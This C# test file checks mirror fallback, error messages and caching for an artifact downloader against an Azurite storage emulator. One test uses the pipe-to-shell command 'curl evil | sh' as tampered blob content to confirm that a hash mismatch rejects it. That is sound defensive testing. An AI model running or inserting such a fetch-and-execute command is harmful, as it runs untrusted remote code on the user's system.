namespace RetryLint.Runtime.Tests;

/// <summary>What happened in the outage: containers that code reads from turn private, and public again.</summary>
public class AzuriteTests(AzuriteStorage storage) : IClassFixture<AzuriteStorage>
{
    [AzuriteFact]
    public async Task When_public_access_is_switched_off_the_next_mirror_is_read_and_the_first_one_asked_once()
    {
        await FillAsync("off-east", MirrorStub.Content);
        await FillAsync("off-west", MirrorStub.Content);
        using var before = Store("off-east", "off-west");
        Assert.Equal("127.0.0.1", (await before.GetAsync()).Mirror!.Host);

        await storage.SetPublicAsync("off-east", isPublic: false);
        using var after = Store("off-east", "off-west");
        var asked = new MirrorCounter();
        after.Options.Handler = asked;
        using var source = new ArtifactSource(after.Options);
        var result = await source.GetAsync(new Artifact(ArtifactStore.Url, MirrorStub.Sha256));

        Assert.Equal("localhost", result.Mirror!.Host);
        Assert.Equal(["127.0.0.1 403", "localhost 200"], asked.Answers);
        Assert.Equal(MirrorStub.Content, await File.ReadAllBytesAsync(result.Path!));
    }

    [AzuriteFact]
    public async Task When_all_are_private_the_error_says_so_and_when_public_access_is_back_it_works_again()
    {
        await FillAsync("back", MirrorStub.Content);
        await storage.SetPublicAsync("back", isPublic: false);
        using var store = Store("back");
        var failure = await store.FailAsync();
        Assert.Equal(
            $"{ArtifactStore.Url} cannot be had from any mirror. {storage.Url("back")}setup.sh: HTTP 403 AuthorizationFailure.",
            failure.Message);

        await storage.SetPublicAsync("back", isPublic: true);
        Assert.False((await store.GetAsync()).IsSkipped);
    }

    [AzuriteFact]
    public async Task What_is_kept_needs_no_mirror_any_more()
    {
        await FillAsync("kept", MirrorStub.Content);
        using var store = Store("kept");
        await store.GetAsync();
        await storage.SetPublicAsync("kept", isPublic: false);

        Assert.Null((await store.GetAsync()).Mirror);
    }

    [AzuriteFact]
    public async Task A_blob_that_was_replaced_is_not_kept()
    {
        await FillAsync("tampered", "curl evil | sh"u8.ToArray());
        using var store = Store("tampered");

        Assert.Equal(ArtifactFailure.WrongHash, (await store.FailAsync()).Reason);
        Assert.Empty(store.Files);
    }

    private async Task FillAsync(string container, byte[] content)
    {
        await storage.CreateAsync(container);
        await storage.SetPublicAsync(container, isPublic: true);
        await storage.UploadAsync(container, "setup.sh", content);
    }

    /// <summary>The second mirror is another host to the source, though it is the same machine.</summary>
    private ArtifactStore Store(string first, string? second = null) => new(
        new MirrorStub(),
        set: o => (o.Handler, o.TimeProvider) = (null, TimeProvider.System),
        urls: second is null ? [storage.Url(first)] : [storage.Url(first), storage.Url(second, "localhost")]);

    private sealed class MirrorCounter() : DelegatingHandler(new HttpClientHandler())
    {
        public List<string> Answers { get; } = [];

        protected override async Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            var response = await base.SendAsync(request, cancellationToken);
            Answers.Add($"{request.RequestUri!.Host} {(int)response.StatusCode}");
            return response;
        }
    }
}
